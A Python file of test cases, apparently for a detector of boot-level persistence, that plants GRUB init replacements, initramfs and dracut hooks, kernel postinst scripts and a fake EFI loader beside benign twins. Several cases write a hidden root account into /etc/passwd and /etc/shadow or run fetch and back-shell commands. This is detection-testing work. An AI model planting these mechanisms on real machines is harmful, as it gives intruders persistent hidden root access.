"""What comes before the system: boot loader, initrd, hooks of new kernels."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, add, both, nothing, put, run, shell, swap
from plantings.command import FETCH, HIDDEN, NOHUP_BACK, SH_BACK, hidden
from plantings.initrd import archive
from plantings.machine import INITRD
from plantings.more_packages import INIT, LOADER_TEXT

_BOOT: Final = "Boot"

_BOOT_ID: Final = "T1542.003"

_GRUB: Final = "/etc/default/grub.d"

_GRUB_OWN: Final = Twin(
    "grub-console",
    "messages on a serial line",
    f"{_GRUB}/50-console.cfg",
    put(
        f"{_GRUB}/50-console.cfg",
        'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT console=ttyS0"\n',
    ),
    table="file",
)

_HOOK: Final = Twin(
    "initramfs-hook",
    "a driver goes into the initrd",
    "/etc/initramfs-tools/hooks/driver",
    run(
        "/etc/initramfs-tools/hooks/driver",
        shell(". /usr/share/initramfs-tools/hook-functions", "manual_add_modules br_netfilter"),
    ),
)

_KERNEL_HOOK: Final = Twin(
    "kernel-postinst-own",
    "a mail after a new kernel",
    "/etc/kernel/postinst.d/zz-tell",
    run("/etc/kernel/postinst.d/zz-tell", shell('echo "kernel $1" | mail -s kernel root')),
)

_LOADER: Final = "/boot/efi/EFI/debian/mmx64.efi"

_ADD_USER: Final = (
    "mount -o remount,rw ${rootmnt}\n"
    'echo "panix:x:0:0::/root:/bin/bash" >> ${rootmnt}/etc/passwd\n'
    "echo 'panix:$6$aaaaaaaa$bm8gcGFzc3dvcmQ:19000:0:99999:7:::' >> ${rootmnt}/etc/shadow\n"
)

_CHANGED_INIT: Final = INIT.replace("maybe_break init\n", _ADD_USER + "maybe_break init\n")


def _memory(
    slug: str, group: str, technique: str, what: str, path: str, unseen: str, panix: str = ""
) -> Case:
    return Case(slug, group, technique, what, path, nothing, None, panix, unseen=unseen)


CASES: Final = (
    Case(
        "grub",
        _BOOT,
        _BOOT_ID,
        "a script in the place of init",
        f"{_GRUB}/99-panix.cfg",
        both(
            run("/grub-panix.sh", f"#!/bin/bash\n( sleep 10; {NOHUP_BACK} ) &\nexec /sbin/init\n"),
            put(
                f"{_GRUB}/99-panix.cfg",
                'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT init=/grub-panix.sh"\n',
            ),
            swap("/boot/grub/grub.cfg", "ro quiet", "ro quiet init=/grub-panix.sh"),
        ),
        _GRUB_OWN,
        "setup_grub",
    ),
    Case(
        "grub-cfg",
        _BOOT,
        _BOOT_ID,
        "another init in the menu alone",
        "/boot/grub/grub.cfg",
        both(hidden(), swap("/boot/grub/grub.cfg", "ro quiet", f"ro quiet init={HIDDEN}")),
        _GRUB_OWN,
    ),
    Case(
        "grub-d",
        _BOOT,
        _BOOT_ID,
        "code whenever the menu is made",
        "/etc/grub.d/06_theme",
        run("/etc/grub.d/06_theme", shell(FETCH)),
        Twin(
            "grub-d-own",
            "an entry for another system",
            "/etc/grub.d/40_custom",
            add("/etc/grub.d/40_custom", "menuentry 'Other' {\n chainloader +1\n}\n"),
        ),
    ),
    Case(
        "loader-entry",
        _BOOT,
        _BOOT_ID,
        "another init in an entry of systemd-boot",
        "/boot/loader/entries/debian.conf",
        both(
            hidden(),
            put(
                "/boot/loader/entries/debian.conf",
                f"title Debian\nlinux /vmlinuz\noptions root=/dev/vda1 ro init={HIDDEN}\n",
            ),
        ),
        Twin(
            "loader-entry-own",
            "an entry of systemd-boot",
            "/boot/loader/entries/debian.conf",
            put(
                "/boot/loader/entries/debian.conf",
                "title Debian\nlinux /vmlinuz\noptions root=/dev/vda1 ro quiet\n",
            ),
            table="file",
        ),
    ),
    Case(
        "initramfs-dracut",
        _BOOT,
        "T1542",
        "a part of the initrd that adds an account",
        "/usr/lib/dracut/modules.d/99panix/module-setup.sh",
        both(
            run(
                "/usr/lib/dracut/modules.d/99panix/module-setup.sh",
                '#!/bin/bash\ncheck()  { return 0; }\ndepends() { return 0; }\ninstall() {\n    inst_hook pre-pivot 99 "$moddir/backdoor-user.sh"\n}\n',
            ),
            run(
                "/usr/lib/dracut/modules.d/99panix/backdoor-user.sh",
                shell(
                    "mount -o remount,rw /sysroot",
                    'echo "panix:x:0:0::/root:/bin/bash" >> /sysroot/etc/passwd',
                ),
            ),
        ),
        Twin(
            "dracut-own",
            "a driver goes into the initrd",
            "/etc/dracut.conf.d/driver.conf",
            put("/etc/dracut.conf.d/driver.conf", 'add_drivers+=" br_netfilter "\n'),
        ),
        "setup_initramfs",
    ),
    Case(
        "initramfs-changed",
        _BOOT,
        "T1542",
        "the first script of the initrd adds an account",
        INITRD,
        put(INITRD, archive(_CHANGED_INIT)),
        Twin(
            "initramfs-rebuilt",
            "an initrd that was made anew",
            INITRD,
            put(INITRD, archive()),
            table="file",
        ),
        "setup_initramfs",
        table="file",
    ),
    Case(
        "initramfs-script",
        _BOOT,
        "T1542",
        "code in the initrd",
        "/etc/initramfs-tools/scripts/init-bottom/fsck2",
        run(
            "/etc/initramfs-tools/scripts/init-bottom/fsck2",
            shell(f"chroot ${{rootmnt}} {SH_BACK} &"),
        ),
        _HOOK,
    ),
    Case(
        "initramfs-hook",
        _BOOT,
        "T1542",
        "a program of no package goes into the initrd",
        "/etc/initramfs-tools/hooks/fsck2",
        both(
            hidden(),
            run(
                "/etc/initramfs-tools/hooks/fsck2",
                shell(
                    ". /usr/share/initramfs-tools/hook-functions", f"copy_exec {HIDDEN} /bin/fsck2"
                ),
            ),
        ),
        _HOOK,
    ),
    Case(
        "mkinitcpio",
        _BOOT,
        "T1542",
        "a hook of mkinitcpio that fetches code",
        "/etc/initcpio/hooks/net2",
        put(
            "/etc/initcpio/hooks/net2",
            f"run_latehook() {{\n    chroot /new_root sh -c '{FETCH}'\n}}\n",
        ),
        _HOOK,
    ),
    Case(
        "kernel-postinst",
        _BOOT,
        "T1542",
        "code after every new kernel",
        "/etc/kernel/postinst.d/zz-depmod",
        run("/etc/kernel/postinst.d/zz-depmod", shell(FETCH)),
        _KERNEL_HOOK,
    ),
    Case(
        "kernel-install",
        _BOOT,
        "T1542",
        "a hidden program after every new kernel",
        "/etc/kernel/install.d/95-sign.install",
        both(hidden(), run("/etc/kernel/install.d/95-sign.install", shell(HIDDEN))),
        _KERNEL_HOOK,
    ),
    Case(
        "esp",
        _BOOT,
        "T1542.003",
        "another loader under the name of the package's",
        _LOADER,
        put(_LOADER, b"MZ" + bytes(200)),
        Twin(
            "esp-copied",
            "the loader of the package, copied",
            _LOADER,
            put(_LOADER, LOADER_TEXT),
            table="file",
        ),
        table="file",
    ),
    _memory(
        "firmware",
        _BOOT,
        "T1542.001",
        "firmware of the board, BMC included",
        "/dev/mem",
        "firmware lies on no disk",
    ),
)
